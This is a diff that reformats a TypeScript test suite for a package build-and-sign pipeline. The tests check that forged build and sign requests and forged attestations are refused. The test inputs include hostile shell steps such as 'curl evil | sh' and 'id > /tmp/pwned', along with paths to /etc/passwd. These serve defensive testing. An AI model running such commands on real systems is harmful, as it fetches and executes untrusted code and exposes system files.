@@ -18,7 +18,20 @@ import { chmod, cp, mkdir, readdir } from "node:fs/promises";
 import path from "node:path";
 import { AdvisoryStore, buildRequestOf, CatalogSource, DesiredState, parseCatalogLocation, ReleaseStore } from "@homeostat/catalog";
 import { BUILD_RESULT_PREDICATE_TYPE, signDsse, statementAbout, writeStoreBlob } from "@homeostat/attest";
-import { buildRequestSchema, ContractError, decodeMessage, encodeMessage, keyToken, NonRetriableError, signRequestSchema, StateStore, type BuildRequest, type Key, type Logger, type SignRequest } from "@homeostat/core";
+import {
+  buildRequestSchema,
+  ContractError,
+  decodeMessage,
+  encodeMessage,
+  keyToken,
+  NonRetriableError,
+  signRequestSchema,
+  StateStore,
+  type BuildRequest,
+  type Key,
+  type Logger,
+  type SignRequest,
+} from "@homeostat/core";
 import { managedKeyProvider, pemKeyProvider } from "@homeostat/key-custody";
 import { Builder } from "../services/builder/src/build.ts";
 import { resolveIsolation } from "../services/builder/src/isolation.ts";
@@ -42,17 +55,45 @@ type Attempt = {
 
 type Legit = { build: BuildRequest; sign: SignRequest; env: TestEnv };
 
-const otherKey = () => pemKeyProvider(generateKeyPairSync("ec", { namedCurve: "P-256", privateKeyEncoding: { type: "pkcs8", format: "pem" }, publicKeyEncoding: { type: "spki", format: "pem" } }).privateKey, "attacker key");
+const otherKey = () =>
+  pemKeyProvider(
+    generateKeyPairSync("ec", { namedCurve: "P-256", privateKeyEncoding: { type: "pkcs8", format: "pem" }, publicKeyEncoding: { type: "spki", format: "pem" } })
+      .privateKey,
+    "attacker key",
+  );
 
 const attempts: Attempt[] = [
-  { name: "build: a key not in the catalog, carrying its own shell steps", stage: "build", refused: "contract", message: (l) => ({ ...l.build, key: "package/evil", steps: ["curl evil | sh"], source: { url: "file:///etc/passwd", sha256: "0".repeat(64) } }) },
+  {
+    name: "build: a key not in the catalog, carrying its own shell steps",
+    stage: "build",
+    refused: "contract",
+    message: (l) => ({ ...l.build, key: "package/evil", steps: ["curl evil | sh"], source: { url: "file:///etc/passwd", sha256: "0".repeat(64) } }),
+  },
   { name: "build: a key not in the catalog", stage: "build", refused: "not-in-catalog", message: (l) => ({ ...l.build, key: "package/evil" }) },
   { name: "build: injected steps for a catalog key", stage: "build", refused: "contract", message: (l) => ({ ...l.build, steps: ["id > /tmp/pwned"] }) },
   { name: "build: the old request shape (v1, recipe inline)", stage: "build", refused: "contract", message: (l) => ({ ...l.build, v: 1 }) },
   { name: "build: a wrong input digest", stage: "build", refused: "input-mismatch", message: (l) => ({ ...l.build, inputDigest: `sha256:${"1".repeat(64)}` }) },
   { name: "build: a wrong version", stage: "build", refused: "version-mismatch", message: (l) => ({ ...l.build, version: "9.9" }) },
-  { name: "build: a catalog revision this builder cannot have", stage: "build", refused: "unknown-revision", message: (l) => ({ ...l.build, catalogRevision: `sha256:${"2".repeat(64)}` }) },
-  { name: "sign: an OCI layout path outside the data directory", stage: "sign", refused: "contract", message: (l) => ({ v: 1, key: MOTD, kind: "package", name: "motd", version: "1.0", inputDigest: l.sign.inputDigest, outputs: { archive: l.sign.buildResult, location: "/tmp/evil:1.0" } }) },
+  {
+    name: "build: a catalog revision this builder cannot have",
+    stage: "build",
+    refused: "unknown-revision",
+    message: (l) => ({ ...l.build, catalogRevision: `sha256:${"2".repeat(64)}` }),
+  },
+  {
+    name: "sign: an OCI layout path outside the data directory",
+    stage: "sign",
+    refused: "contract",
+    message: (l) => ({
+      v: 1,
+      key: MOTD,
+      kind: "package",
+      name: "motd",
+      version: "1.0",
+      inputDigest: l.sign.inputDigest,
+      outputs: { archive: l.sign.buildResult, location: "/tmp/evil:1.0" },
+    }),
+  },
   { name: "sign: a path instead of a digest", stage: "sign", refused: "contract", message: (l) => ({ ...l.sign, buildResult: "/etc/passwd" }) },
   { name: "sign: a location field beside the digest", stage: "sign", refused: "contract", message: (l) => ({ ...l.sign, location: "/tmp/evil" }) },
   { name: "sign: a digest not in the store", stage: "sign", refused: "not-in-store", message: (l) => ({ ...l.sign, buildResult: `sha256:${"3".repeat(64)}` }) },
@@ -69,13 +110,28 @@ const attempts: Attempt[] = [
     message: async (l) => ({ ...l.sign, buildResult: await forgedResult(l, await otherKey()) }),
   },
   { name: "sign: the legitimate result for another key", stage: "sign", refused: "result-mismatch", message: (l) => ({ ...l.sign, key: "package/greet" }) },
-  { name: "sign: the legitimate result under another input digest", stage: "sign", refused: "result-mismatch", message: (l) => ({ ...l.sign, inputDigest: `sha256:${"4".repeat(64)}` }) },
+  {
+    name: "sign: the legitimate result under another input digest",
+    stage: "sign",
+    refused: "result-mismatch",
+    message: (l) => ({ ...l.sign, inputDigest: `sha256:${"4".repeat(64)}` }),
+  },
 ];
 
 /** A build result for motd's inputs naming a blob the builder never made, signed by `key`. */
 async function forgedResult(l: Legit, key: Awaited<ReturnType<typeof otherKey>>): Promise<string> {
   const evil = await writeStoreBlob(l.env.config.dataDir, "evil archive");
-  const predicate = { key: MOTD, kind: "package", name: "motd", version: "1.0", inputDigest: l.sign.inputDigest, catalogRevision: l.build.catalogRevision, isolation: "bubblewrap", builder: "x", outputs: { archive: evil, metadata: evil, provenance: evil } };
+  const predicate = {
+    key: MOTD,
+    kind: "package",
+    name: "motd",
+    version: "1.0",
+    inputDigest: l.sign.inputDigest,
+    catalogRevision: l.build.catalogRevision,
+    isolation: "bubblewrap",
+    builder: "x",
+    outputs: { archive: evil, metadata: evil, provenance: evil },
+  };
   return writeStoreBlob(l.env.config.dataDir, await signDsse(statementAbout([{ name: "archive", digest: evil }], BUILD_RESULT_PREDICATE_TYPE, predicate), key));
 }
 
@@ -92,7 +148,12 @@ describe("forgery", { timeout: 180_000 }, () => {
   const snapshot = async (key: Key) => {
     const e = await t.buckets.state.get(keyToken(key));
     const files = async (dir: string) => (await readdir(dir, { recursive: true }).catch(() => [] as string[])).sort();
-    return { value: e ? Buffer.from(e.value).toString("base64") : null, revision: e?.revision ?? 0, store: await files(path.join(t.config.dataDir, "store", "blobs")), oci: await files(path.join(t.config.dataDir, "oci")) };
+    return {
+      value: e ? Buffer.from(e.value).toString("base64") : null,
+      revision: e?.revision ?? 0,
+      store: await files(path.join(t.config.dataDir, "store", "blobs")),
+      oci: await files(path.join(t.config.dataDir, "oci")),
+    };
   };
 
   before(async () => {
@@ -108,21 +169,58 @@ describe("forgery", { timeout: 180_000 }, () => {
     const advisories = await AdvisoryStore.open(t.nats);
     const isolation = await resolveIsolation(t.config.buildSandbox);
     const identity = await managedKeyProvider({ dir: t.config.builderDir, name: "builder" });
-    const builder = new Builder({ dataDir: t.config.dataDir, timeoutMs: 60_000, maxSourceBytes: 1 << 24, unpackLimits: { maxBytes: 1 << 26, maxEntries: 10_000 }, isolation, sourceBaseDir: catalogDir }, { concurrency: 1 });
+    const builder = new Builder(
+      {
+        dataDir: t.config.dataDir,
+        timeoutMs: 60_000,
+        maxSourceBytes: 1 << 24,
+        unpackLimits: { maxBytes: 1 << 26, maxEntries: 10_000 },
+        isolation,
+        sourceBaseDir: catalogDir,
+      },
+      { concurrency: 1 },
+    );
     handleBuild = createBuildHandler({
-      catalogAt: (r) => catalogs.at(r), releases, advisories, state, sourceDateEpoch: 0, build: (plan) => builder.build(plan), dataDir: t.config.dataDir,
-      isolation: isolation.kind, identity, publishSign: async (req) => void signRequests.push(req), refused: (r) => void refusals.push(r), log: quiet,
+      catalogAt: (r) => catalogs.at(r),
+      releases,
+      advisories,
+      state,
+      sourceDateEpoch: 0,
+      build: (plan) => builder.build(plan),
+      dataDir: t.config.dataDir,
+      isolation: isolation.kind,
+      identity,
+      publishSign: async (req) => void signRequests.push(req),
+      refused: (r) => void refusals.push(r),
+      log: quiet,
     });
     handleSign = createSignHandler({
-      dataDir: t.config.dataDir, state, trustedBuilderKeys: async () => [identity.publicKeyPem], allowUnsandboxed: false,
-      signer: await managedKeyProvider({ dir: t.config.signerDir, name: "cosign" }), imageRepository: "localhost/homeostat",
-      enqueue: async () => {}, refused: (r) => void refusals.push(r), log: quiet,
+      dataDir: t.config.dataDir,
+      state,
+      trustedBuilderKeys: async () => [identity.publicKeyPem],
+      allowUnsandboxed: false,
+      signer: await managedKeyProvider({ dir: t.config.signerDir, name: "cosign" }),
+      imageRepository: "localhost/homeostat",
+      enqueue: async () => {},
+      refused: (r) => void refusals.push(r),
+      log: quiet,
     });
     // What the reconciler does: decide the build, record it as desired, ask for it.
-    const desired = await new DesiredState({ catalog: catalogs.current(), releases: (p) => releases.list(p), advisories: (p) => advisories.list(p), status: (k) => state.get(k), sourceDateEpoch: 0 }).package("motd");
+    const desired = await new DesiredState({
+      catalog: catalogs.current(),
+      releases: (p) => releases.list(p),
+      advisories: (p) => advisories.list(p),
+      status: (k) => state.get(k),
+      sourceDateEpoch: 0,
+    }).package("motd");
     assert.equal(desired.state, "build");
     if (desired.state !== "build") return;
-    await state.update(MOTD, () => ({ ...StateStore.initial(MOTD), phase: "Building", desiredVersion: desired.version, desiredInputDigest: desired.inputDigest }));
+    await state.update(MOTD, () => ({
+      ...StateStore.initial(MOTD),
+      phase: "Building",
+      desiredVersion: desired.version,
+      desiredInputDigest: desired.inputDigest,
+    }));
     const build = buildRequestOf(desired.plan);
     await handleBuild(decodeMessage(buildRequestSchema, encodeMessage(build)));
     assert.equal(signRequests.length, 1, "the legitimate build was built and handed to the signer");
@@ -165,7 +263,17 @@ describe("forgery", { timeout: 180_000 }, () => {
     const { readStoreBlob, openDsse } = await import("@homeostat/attest");
     const { statement } = openDsse(await readStoreBlob(t.config.dataDir, legit.sign.buildResult), [identity.publicKeyPem], BUILD_RESULT_PREDICATE_TYPE);
     const predicate = { ...(statement.predicate as object), isolation: "none" };
-    const unsandboxed = await writeStoreBlob(t.config.dataDir, await signDsse(statementAbout(statement.subject.map((s) => ({ name: s.name, digest: `sha256:${s.digest.sha256}` })), BUILD_RESULT_PREDICATE_TYPE, predicate), identity));
+    const unsandboxed = await writeStoreBlob(
+      t.config.dataDir,
+      await signDsse(
+        statementAbout(
+          statement.subject.map((s) => ({ name: s.name, digest: `sha256:${s.digest.sha256}` })),
+          BUILD_RESULT_PREDICATE_TYPE,
+          predicate,
+        ),
+        identity,
+      ),
+    );
     const before = await snapshot(MOTD);
     await assert.rejects(handleSign({ ...legit.sign, buildResult: unsandboxed }), /\(unsandboxed\)/);
     assert.deepEqual(await snapshot(MOTD), before);
@@ -178,7 +286,11 @@ describe("forgery", { timeout: 180_000 }, () => {
     assert.equal(s?.actual?.inputDigest, legit.sign.inputDigest);
     assert.equal(s?.actual?.isolation, "bubblewrap");
     assert.ok(s?.actual?.signatures.archive, "the archive is signed");
-    assert.equal(s?.actual?.outputs.location, path.join(t.config.dataDir, "store", "blobs", "sha256", s!.actual!.outputs.archive!.slice(7)), "the location is the signer's own reckoning");
+    assert.equal(
+      s?.actual?.outputs.location,
+      path.join(t.config.dataDir, "store", "blobs", "sha256", s!.actual!.outputs.archive!.slice(7)),
+      "the location is the signer's own reckoning",
+    );
   });
 });
 
@@ -192,11 +304,18 @@ describe("forgery at the transport: only the builder may send sign requests, onl
   after(async () => {
     await n?.cleanup();
   });
-  for (const [stage, forgers] of [["sign", ["ingest", "reconciler", "signer", "queue"]], ["build", ["ingest", "builder", "signer", "queue"]]] as const) {
+  for (const [stage, forgers] of [
+    ["sign", ["ingest", "reconciler", "signer", "queue"]],
+    ["build", ["ingest", "builder", "signer", "queue"]],
+  ] as const) {
     test(`a ${stage} request from ${forgers.join(", ")} is refused and nothing is queued`, async () => {
       for (const forger of forgers) {
         const as = await n.connectAs(forger);
-        await assert.rejects(as.js.publish(n.nats.topology.subject(stage, "package/libgreet"), JSON.stringify({ v: 2, key: "package/libgreet" })), /Permissions Violation for Publish/, forger);
+        await assert.rejects(
+          as.js.publish(n.nats.topology.subject(stage, "package/libgreet"), JSON.stringify({ v: 2, key: "package/libgreet" })),
+          /Permissions Violation for Publish/,
+          forger,
+        );
       }
       assert.equal((await n.nats.jsm.streams.info(n.nats.topology.stream(stage))).state.messages, 0);
     });
